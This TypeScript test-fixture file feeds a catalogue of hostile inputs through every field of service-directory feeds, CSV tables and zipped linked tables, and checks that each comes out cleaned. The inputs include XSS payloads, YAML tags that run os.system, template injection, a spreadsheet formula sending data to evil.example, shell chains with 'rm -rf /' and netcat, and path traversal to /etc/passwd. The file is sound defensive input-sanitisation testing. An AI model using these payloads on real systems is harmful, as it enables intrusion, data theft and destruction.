import { zipOfTexts } from '../zip.ts';
import { feedWith, goodService, type Hostile } from './hostile.ts';

/** What somebody might write where a word belongs, so that a file, a page, a feed or a spreadsheet does something with it. */
const injections: Readonly<Record<string, string>> = {
  'the end of the fields': '---\nname: Other\n---\n# Hello',
  'the end of the fields, and a program': '---js\nrequire("child_process").execSync("touch /tmp/owned")\n---',
  'another document of YAML': '...\n--- !!js/function "function(){return 1}"\n',
  'a tag of YAML': '!!python/object/apply:os.system ["touch /tmp/owned"]',
  'an anchor and what points to it': '&a *a *b <<: *a',
  'a merge key': '{<<: {addressHidden: no}}',
  'a mark at the start': '@x `y` %z !w |\n> - ? :',
  'a remark': '# checked: yes\n#',
  'a colon, and a field after it': 'x\nstatus: closed\naddressHidden: no',
  'a tab and brackets': '\t{[}],"\'',
  'a script': '<script>alert(1)</script>',
  'a script with capitals and blanks': '<ScRiPt\n>alert(1)</sCrIpT >',
  'a script inside a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'a script written twice': '&lt;script&gt;alert(1)&lt;/script&gt;',
  'a script written three times': '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  'a script by its numbers': '&#60;script&#62;alert(1)&#x3c;/script&#x3e;',
  'a script with its angle left open': '<script src=//evil.example/x',
  'a picture that runs': '<img src=x onerror=alert(1)>',
  'a drawing that runs': '<svg/onload=alert(1)><animate onbegin=alert(1)>',
  'a drawing with a page in it': '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  'a sum that runs': '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  'a page inside the page': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'a form': '<form action=https://evil.example><input name=q><button formaction=javascript:alert(1)>Go</button></form>',
  'a style': '<style>body{display:none}</style><p style="position:fixed;inset:0">x</p>',
  'a base and a refresh': '<base href=https://evil.example/><meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  'a link that runs': '<a href="javascript:alert(1)">Join</a>',
  'a link that runs, in disguise': '<a href=" &#106;ava&#x0A;script:alert(1)">Join</a><a href="JaVaScRiPt&colon;alert(1)">Join</a>',
  'a link that holds a page': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Join</a>',
  'a link to an old machine': '<a href="vbscript:msgbox(1)">Join</a><a href="file:///etc/passwd">Join</a>',
  'a Markdown link that runs': '[Join](javascript:alert(1)) [x]( javascript:alert(1) "t") ![p](javascript:alert(1))',
  'a Markdown link by its name': '[Join][j]\n\n[j]: javascript:alert(1)',
  'a Markdown address that runs': '<javascript:alert(1)> <data:text/html,x>',
  'Markdown that breaks out of its link': '[x](https://e.org/"onmouseover="alert(1)) [y](<javascript:alert(1)>)',
  'a link with brackets in it': '<a href="https://e.org/a)b](javascript:alert(1)">x](javascript:alert(1)) [y</a>',
  'fences and code': '```html\n<script>alert(1)</script>\n```\n    <img src=x onerror=alert(1)>',
  'a table and a footnote': '|a|<script>|\n|-|-|\n[^1]: <img src=x onerror=alert(1)>',
  'HTML that is never closed': `${'<div>'.repeat(5000)}<b><i><a href="https://e.org">x`,
  'a remark that hides a script':
    '<!-- <script>alert(1)</script> --> <!--[if IE]><script>alert(1)</script><![endif]--><![CDATA[<script>x</script>]]>',
  'a template': '{{constructor.constructor("alert(1)")()}} @{alert(1)} <%= system("x") %> #{7*7}',
  'an include': '<!--#exec cmd="ls"--><?php system("ls"); ?>',
  'a formula': '=HYPERLINK("http://evil.example?"&A1,"Click")',
  'another line of a feed': '"}],"contents":[{"id":"evil","name":"Evil"}]}//',
  commands: '$(touch /tmp/owned) `id` ; rm -rf / | nc evil.example 1 && true',
  'a path': '../../../../etc/passwd\0.md',
  'letters that turn the line round': '\u202e\u2066evil\u2069\u202c\u200f\u061c',
  'half a letter': '\ud83d \udc00 \uffff \ufffe \u0000',
  'a slow pattern': `${'a'.repeat(40_000)}!@${'('.repeat(2000)}`,
  'many mailboxes': 'a@'.repeat(20_000),
  'many numbers': '0 '.repeat(40_000),
  'many blanks': ' '.repeat(200_000),
  'a mountain of marks': '*_[`\\]<>&#'.repeat(4000),
};

/** The same words in every field of a service that holds any. */
const everywhere = (words: string) => ({
  ...goodService,
  id: 'words',
  name: `Words ${words}`,
  alternate_name: words,
  description: `Songs and play. ${words}`,
  url: words,
  email: words,
  status: 'active',
  alert: words,
  fees: words,
  accreditations: words,
  licence: words,
  assured_date: words,
  last_modified: words,
  minimum_age: words,
  interpretation_services: words,
  application_process: words,
  wait_time: words,
  pc_extra: words,
  [`pc ${words}`]: 'x',
  organization: { id: 'w', name: `Org ${words}`, description: words, website: words, email: words },
  contacts: [{ name: words, email: words, phones: [{ number: words, description: words, extension: words }] }],
  schedules: [{ byday: words, opens_at: words, closes_at: words, description: words, valid_from: words }],
  cost_options: [{ option: words, amount: words, amount_description: words }],
  service_areas: [{ name: words }],
  languages: [{ name: words, code: words }],
  attributes: [{ taxonomy_term: { name: words } }],
  service_at_locations: [
    {
      location: {
        name: words,
        description: words,
        latitude: words,
        longitude: words,
        addresses: [{ address_1: words, city: words, postal_code: words }],
        accessibility: [{ description: words }],
      },
    },
  ],
});

const inFeeds = Object.entries(injections).map(
  ([says, words]): Hostile => ({
    says: `${says}, in every field of a feed`,
    file: 'a.json',
    bytes: feedWith(everywhere(words)),
    becomes: 'cleaned',
  }),
);

const cell = (words: string) => `"${words.replaceAll('"', '""')}"`;
/** Columns of a council's own table, the template of the Department for Education, and Ofsted's register. */
const tables: readonly (readonly [string, readonly string[], string])[] = [
  [
    'a table',
    [
      'Service name',
      'Organisation',
      'Description',
      'Phone',
      'Email',
      'Website',
      'Venue',
      'Postcode',
      'Ages',
      'When',
      'Cost',
      'Category',
      'Languages',
      'Notes for us',
    ],
    'Harbour Sprats',
  ],
  [
    'the DfE template',
    [
      'Name of service',
      'Service unique identifier',
      'Name of organisation',
      'More details (service description)',
      'Contact phone',
      'Contact email',
      'Website',
      'Location name',
      'Location description',
      'Opening hours description',
      'Sub-category',
      'Language',
    ],
    'Harbour Sprats',
  ],
  [
    'Ofsted’s register',
    [
      'Provider name',
      'Provider URN',
      'Provider type',
      'Provider subtype',
      'Provider address line 1',
      'Postcode',
      'Places',
      'Most recent full: Overall effectiveness',
      'Most recent full: Inspection date',
    ],
    'Harbour Sprats',
  ],
];
/** Bytes that are no text make a file that is no table, so those are for feeds alone. */
const shortWords = Object.entries(injections).filter(([, words]) => words.length < 200 && words.isWellFormed() && !words.includes('\0'));

/** Each of the short ones in one of the tables: all go through the same cleaning. */
const inTables = shortWords.map(([says, words], at): Hostile => {
  const [kind, columns, name] = tables[at % tables.length] ?? ['', [], ''];
  const rows = [columns.map((_, place) => (place === 0 ? name : place === 1 ? 'EY123456' : 'Songs')), columns.map(() => words)];
  return {
    says: `${says}, in every cell of ${kind}`,
    file: 'a.csv',
    bytes: `${columns.map(cell).join(',')}\n${rows.map((cells) => cells.map(cell).join(',')).join('\n')}\n`,
    becomes: 'cleaned',
  };
});

/** In linked tables, where a word may also be the way from one to the other. */
const inLinkedTables = shortWords
  .filter((_, at) => at % 4 === 0)
  .map(
    ([says, words]): Hostile => ({
      says: `${says}, in every cell of linked tables`,
      file: 'a.zip',
      bytes: zipOfTexts({
        'services.csv': `id,organization_id,name,description,url,status,fees\n1,9,Harbour Sprats,Songs,,active,\n${[words, words, `Words ${words}`, words, words, 'active', words].map(cell).join(',')}\n`,
        'organizations.csv': `id,name,description\n9,Sprats,x\n${[words, words, words].map(cell).join(',')}\n`,
        'phones.csv': `id,service_id,number,description\n${[words, words, words, words].map(cell).join(',')}\n`,
        'locations.csv': `id,name,latitude,longitude\n${[words, words, words, words].map(cell).join(',')}\n`,
        'services_at_location.csv': `id,service_id,location_id\n${[words, words, words].map(cell).join(',')}\n`,
      }),
      becomes: 'cleaned',
    }),
  );

/** Numbers and days that no clock, map or purse has. */
const values = {
  'numbers beyond all numbers': [1e308, -1e308, 1e19, '99999999999999999999', '1e999', 'NaN', '-Infinity', '0x1F', '٣٤'],
  'days that never were': [
    '0000-00-00',
    '9999-99-99',
    '2026-02-30',
    '-271821-04-19',
    '+275760-09-14',
    '2026-13-01T25:61:61Z',
    '1e9',
    '30/02/2026',
    'yesterday',
  ],
  'times that no clock shows': ['24:00', '25:61', '-1:00', '99:99:99', '0:0', '12', 'noonish', '9am-', 'T09:00Z'],
  'places that are not on the map': ['91', '-181', '53.5,', '53°30′', '1e309', '0', '-0', 'NaN', '0.0000001'],
} as const;

const wrongValues = Object.entries(values).map(
  ([says, odd]): Hostile => ({
    says,
    file: 'a.json',
    bytes: feedWith(
      ...odd.map((value, at) => ({
        ...goodService,
        id: `v${at}`,
        name: `Value Group ${at}`,
        minimum_age: value,
        maximum_age: value,
        assured_date: value,
        last_modified: value,
        status: at % 2 ? 'temporarily closed' : 'active',
        eligibilitys: [{ minimum_age: value, maximum_age: value }],
        cost_options: [{ option: 'x', amount: value, valid_to: value }],
        schedules: [
          {
            byday: 'MO',
            opens_at: value,
            closes_at: value,
            valid_from: value,
            valid_to: value,
            dtstart: value,
            freq: 'WEEKLY',
            interval: value,
          },
          { byday: '5MO', opens_at: '10:00', closes_at: '12:00', bymonthday: value, dtstart: value, freq: 'MONTHLY', interval: 2 },
        ],
        service_at_locations: [{ location: { name: `Hall ${at}`, latitude: value, longitude: value } }],
      })),
    ),
    becomes: 'cleaned',
  }),
);

export const hostileWords: readonly Hostile[] = [...inFeeds, ...inTables, ...inLinkedTables, ...wrongValues];
